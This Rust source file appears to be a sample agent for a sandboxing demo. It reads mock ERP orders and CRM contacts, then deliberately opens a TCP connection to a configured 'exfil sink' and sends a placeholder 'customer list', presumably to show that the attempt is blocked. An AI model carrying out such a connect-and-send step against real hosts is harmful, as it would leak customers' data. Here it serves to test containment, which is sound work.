//! The sample agent of `cargo xtask demo`: it works against the mock ERP
//! and CRM, tries to send data to the exfil sink, then follows the CRM's
//! live feed, reconnecting when it is cut, until its stdin closes. It prints
//! one line per thing it does; the demo reads them to tell the story.
use std::{
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::TcpStream,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

/// The agent gives up on its own after this, whatever happens.
const LIFETIME: Duration = Duration::from_secs(120);

fn say(line: &str) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, erp, crm, feed, exfil] = args.as_slice() else {
        eprintln!("usage: agentd-demo-agent ERP_URL CRM_URL CRM_FEED_ADDR EXFIL_ADDR");
        std::process::exit(2);
    };
    // Stop when the demo closes our stdin.
    let done = Arc::new(AtomicBool::new(false));
    {
        let done = done.clone();
        std::thread::spawn(move || {
            let mut sink = Vec::new();
            let _ = std::io::stdin().read_to_end(&mut sink);
            done.store(true, Ordering::Relaxed);
        });
    }
    let http: ureq::Agent = ureq::Agent::config_builder()
        .timeout_global(Some(Duration::from_secs(5)))
        .build()
        .into();

    for (system, base, path) in [("ERP", erp, "/orders"), ("CRM", crm, "/contacts")] {
        match http.get(format!("{base}{path}")).call() {
            Ok(mut r) => say(&format!(
                "{system}: GET {path} -> {} {}",
                r.status(),
                r.body_mut().read_to_string().unwrap_or_default().trim()
            )),
            Err(e) => say(&format!("{system}: GET {path} failed: {e}")),
        }
    }
    match TcpStream::connect_timeout(
        &exfil.parse().expect("exfil address"),
        Duration::from_secs(2),
    ) {
        Ok(mut s) => {
            let _ = s.write_all(b"customer list: ...\n");
            say(&format!(
                "EXFIL: connected to {exfil} and sent the customer list"
            ));
        }
        Err(e) => say(&format!("EXFIL: connect to {exfil} refused: {e}")),
    }

    let feed_addr = feed.parse().expect("feed address");
    let started = Instant::now();
    let mut connected_before = false;
    while !done.load(Ordering::Relaxed) && started.elapsed() < LIFETIME {
        match TcpStream::connect_timeout(&feed_addr, Duration::from_secs(2)) {
            Ok(stream) => {
                say(if connected_before {
                    "FEED: reconnected to the CRM feed"
                } else {
                    "FEED: following the CRM feed"
                });
                connected_before = true;
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut reader = BufReader::new(stream);
                let mut line = String::new();
                loop {
                    line.clear();
                    match reader.read_line(&mut line) {
                        Ok(0) => {
                            say("FEED: the CRM closed the feed");
                            break;
                        }
                        Ok(_) => say(&format!("FEED: {}", line.trim())),
                        Err(e) => {
                            say(&format!("FEED: connection lost: {e}"));
                            break;
                        }
                    }
                    if done.load(Ordering::Relaxed) {
                        return;
                    }
                }
            }
            Err(e) => say(&format!("FEED: cannot reach the CRM: {e}")),
        }
        std::thread::sleep(Duration::from_millis(500));
    }
}
